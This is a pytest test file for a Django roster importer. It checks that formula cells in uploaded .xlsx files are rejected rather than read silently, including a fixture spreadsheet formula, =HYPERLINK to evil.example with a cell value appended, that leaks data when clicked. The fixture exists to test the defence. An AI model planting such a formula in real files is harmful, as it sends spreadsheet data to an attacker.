"""Formula cells in a roster are never read silently as blank or zero (issue 8, item 9).

openpyxl writes formulas without a cached value (as a script or a web export would); a file
saved by Excel or LibreOffice holds the computed value in ``<v>``, which is added here by editing
the sheet XML inside the .xlsx, as those programs write it.
"""

import io
import re
import zipfile

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from openpyxl.utils import get_column_letter

from safeserve.registry.models import Enterprise
from safeserve.registry.roster_import import import_rows
from safeserve.registry.tests.test_import import ENT_HEADERS, ent_row, write_xlsx

EMPLOYEES = get_column_letter(ENT_HEADERS.index("从业人数") + 1)
NAME = get_column_letter(ENT_HEADERS.index("单位名称") + 1)
LINK = '=HYPERLINK("http://evil.example/?"&B3,"点我")'
NO_RESULT = "未计算结果的公式"
TEXT_RESULT = "不接受由公式计算出的文本"


def with_cached_values(path, cached: dict[str, tuple[str, str]]):
    """Give formula cells a cached value as Excel saves it: {"H2": ("n", "2"), "B2": ("str", "点我")}."""
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    for ref, (kind, value) in cached.items():
        pattern = re.compile(rf'<c r="{ref}"([^>]*)><f>(.*?)</f><v ?/>(</v>)?</c>')
        assert pattern.search(xml), ref
        t = "" if kind == "n" else f' t="{kind}"'
        xml = pattern.sub(
            lambda m, ref=ref, t=t, value=value: f'<c r="{ref}"{t}><f>{m.group(2)}</f><v>{value}</v></c>', xml
        )
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def errors(result):
    return [(e.row, e.column, e.reason) for e in result.errors]


def test_formulas_without_cached_values_are_row_errors(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1), ent_row(2, 从业人数="=1+1"), ent_row(3, 单位名称=LINK)])
    result = import_rows("enterprise", path, actor=world.user("county"))
    found = errors(result)
    assert [(r, c) for r, c, _m in found] == [(3, "从业人数"), (4, "单位名称")]
    assert all(NO_RESULT in m for _r, _c, m in found)
    assert result.errors[0].display().startswith("第3行，「从业人数」：")
    assert result.created == 0 and not Enterprise.objects.filter(name__startswith="嘉善测试").exists()


def test_cached_numbers_are_taken_and_cached_text_is_refused(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1, 从业人数="=1+1"), ent_row(2, 单位名称=LINK)])
    with_cached_values(path, {f"{EMPLOYEES}2": ("n", "2"), f"{NAME}3": ("str", "点我")})
    result = import_rows("enterprise", path, actor=world.user("county"), dry_run=True)
    assert [(r, c) for r, c, _m in errors(result)] == [(3, "单位名称")]
    assert TEXT_RESULT in result.errors[0].reason
    # Without the refused row the cached number is imported.
    path = write_xlsx(tmp_path / "g.xlsx", [ent_row(1, 从业人数="=1+1")])
    with_cached_values(path, {f"{EMPLOYEES}2": ("n", "2")})
    result = import_rows("enterprise", path, actor=world.user("county"))
    assert result.ok and result.created == 1
    assert Enterprise.objects.get(name="嘉善测试1号五金有限公司").employees == 2


def test_a_formula_error_value_is_refused(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1, 从业人数="=1/0")])
    with_cached_values(path, {f"{EMPLOYEES}2": ("e", "#DIV/0!")})
    result = import_rows("enterprise", path, actor=world.user("county"), dry_run=True)
    assert [(r, c) for r, c, _m in errors(result)] == [(2, "从业人数")]


def test_text_that_only_starts_with_equals_is_text(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1)])
    with zipfile.ZipFile(path) as z:
        parts = {name: z.read(name) for name in z.namelist()}
    xml = parts["xl/worksheets/sheet1.xml"].decode()
    xml = xml.replace("<t>嘉善测试1号五金有限公司</t>", "<t>=甲五金</t>")
    parts["xl/worksheets/sheet1.xml"] = xml.encode()
    with zipfile.ZipFile(path, "w") as z:
        for name, data in parts.items():
            z.writestr(name, data)
    result = import_rows("enterprise", path, actor=world.user("county"))
    assert result.ok, errors(result)
    assert Enterprise.objects.filter(name="=甲五金").exists()


def test_command_prints_formula_problems_in_the_readme_form(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1, 从业人数="=1+1")])
    stderr = io.StringIO()
    with pytest.raises(CommandError):
        call_command("import_enterprises", str(path), stderr=stderr)
    lines = stderr.getvalue().splitlines()
    assert any(line.startswith("第2行，「从业人数」：") and NO_RESULT in line for line in lines), lines


def test_an_exported_escape_reimports_as_the_original_text(world, tmp_path):
    path = write_xlsx(tmp_path / "f.xlsx", [ent_row(1, 单位名称="'=甲五金", 法定代表人="'普通")])
    result = import_rows("enterprise", path, actor=world.user("county"))
    assert result.ok, errors(result)
    # Only the apostrophe our exports add is removed; any other leading apostrophe is data.
    assert Enterprise.objects.filter(name="=甲五金", legal_representative="'普通").exists()
